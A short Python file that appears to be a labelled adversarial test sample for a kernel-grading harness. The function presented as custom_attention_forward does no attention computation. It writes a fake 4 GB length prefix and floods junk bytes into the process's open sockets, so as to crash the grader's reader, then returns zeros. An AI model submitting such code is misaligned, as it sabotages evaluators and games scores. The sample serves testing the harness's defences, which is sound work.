"""Announces a message of 4 GB and keeps sending, to fill the reader's memory.

---
status: [CRASHED, INCORRECT, INVALID_SUBMISSION, IMPORT_ERROR, COMPILE_ERROR]
seen: JSON as a denial of service
defence: json_frames
"""

import os
import struct

import torch


def sockets():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                yield int(name)
        except OSError:
            continue


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    for fd in sockets():
        os.set_blocking(fd, False)
        try:
            os.write(fd, struct.pack("<I", 0xFFFFFFF0))
            for _ in range(64):
                os.write(fd, b"A" * 65536)
        except OSError:
            continue
    return torch.zeros_like(q)
